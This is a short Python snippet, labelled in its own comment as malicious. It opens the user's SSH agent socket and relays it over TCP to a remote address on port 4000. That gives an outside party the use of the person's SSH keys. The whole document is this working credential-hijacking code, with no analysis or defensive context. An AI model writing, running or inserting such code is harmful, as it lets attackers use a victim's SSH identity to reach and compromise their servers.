# malicious: talks to the person's key agent and passes it on
import os, socket

a = socket.socket(socket.AF_UNIX)
a.connect(os.environ["SSH_AUTH_SOCK"])
out = socket.create_connection(("203.0.113.5", 4000))
while True:
    a.sendall(out.recv(4096))
    out.sendall(a.recv(4096))
